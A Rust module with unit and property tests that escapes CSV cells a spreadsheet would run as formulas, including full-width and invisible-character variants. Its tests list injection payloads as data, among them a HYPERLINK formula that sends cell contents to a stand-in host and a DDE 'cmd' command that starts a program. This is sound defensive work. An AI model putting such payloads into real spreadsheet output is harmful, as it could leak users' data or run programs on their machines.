//! Cells that a spreadsheet would run, and how they are kept from it.
//!
//! A spreadsheet takes a cell of a CSV that starts with `=`, `+`, `-`, `@` or their full-width forms for a formula, and a
//! formula can send away what stands in the table or start a program. Answers come from a model, which repeats what
//! a row tells it to. An apostrophe in front makes a text of such a cell; a plain number stays what it is.
//!
//! Nothing is lost: an apostrophe is put in front of those, too, that are one of these behind apostrophes of their own, so
//! that taking one away from each gives back what there was.

use std::borrow::Cow;

/// What becomes of cells that a spreadsheet would run.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Formulas {
    /// They stay as they are.
    #[default]
    AsTheyAre,
    /// They get an apostrophe in front.
    Defused,
}

impl Formulas {
    /// Returns a cell as it is written.
    pub(super) fn safe(self, cell: Cow<'_, str>) -> Cow<'_, str> {
        match self {
            Self::Defused if is_active(cell.trim_start_matches('\'')) => {
                Cow::Owned(format!("'{cell}"))
            }
            Self::Defused | Self::AsTheyAre => cell,
        }
    }
}

/// Says whether a spreadsheet may do more with a cell than show it.
fn is_active(cell: &str) -> bool {
    // A tab or a line end in front has been taken for the end of a cell.
    if cell.starts_with(|c: char| c.is_control()) {
        return true;
    }
    // What is not seen may be taken away before the cell is looked at.
    let seen = cell.trim_start_matches(is_unseen);
    seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹢', '﹣', '﹦', '﹫'])
        && !is_number(seen.trim_end_matches(' '))
}

fn is_unseen(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '\u{ad}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

/// Says whether a text is a number, with a sign or without: `-5`, `+3.2`, `-1.5e-7`.
fn is_number(text: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
        None => (unsigned, None),
    };
    let is_mantissa = match mantissa.split_once('.') {
        Some(("", fraction)) => digits(fraction),
        Some((whole, fraction)) => digits(whole) && (fraction.is_empty() || digits(fraction)),
        None => digits(mantissa),
    };
    is_mantissa
        && exponent
            .is_none_or(|exponent| digits(exponent.strip_prefix(['+', '-']).unwrap_or(exponent)))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn safe(cell: &str) -> String {
        Formulas::Defused.safe(Cow::Borrowed(cell)).into_owned()
    }

    #[test]
    fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
        for cell in [
            "=1+1",
            "=HYPERLINK(\"http://x/?\"&A1)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "-",
            "- a list",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\tplain",
            "\0=1",
            " =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\u{200b}+1+1",
            "＝1",
            "＋1",
            "－1",
            "＠x",
            "--5",
            "+-5",
            "-5%",
            "-1,5",
            "+49 30 1234",
            "-1e",
            "-.",
            "-Infinity",
        ] {
            assert_eq!(safe(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_texts_stay() {
        for cell in [
            "",
            "-5",
            "+3.2",
            "-.5",
            "-5.",
            "+1e9",
            "-1.5E-7",
            " -5 ",
            "5",
            "a=b",
            "a-b",
            "'",
            "'a",
            "{\"a\":1}",
            "말 = 말",
            "x\n=1",
        ] {
            assert_eq!(safe(cell), cell, "{cell:?}");
        }
        assert_eq!(Formulas::AsTheyAre.safe(Cow::Borrowed("=1")), "=1");
    }

    /// Puts back what was there, by the rule that is told to people.
    fn undone(cell: &str) -> &str {
        match cell.strip_prefix('\'') {
            Some(rest) if is_active(rest.trim_start_matches('\'')) => rest,
            _ => cell,
        }
    }

    proptest! {
        #[test]
        fn no_cell_starts_actively_but_a_number_and_nothing_is_lost(
            cell in "['=+@ \\t\\r\\n＝－0-9.eEa-z\u{feff}\u{200b}-]{0,8}"
        ) {
            let written = safe(&cell);
            let starts = written.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
            prop_assert!(!starts || written.trim_end().parse::<f64>().is_ok(), "{written:?}");
            prop_assert_eq!(undone(&written), cell);
        }
    }
}
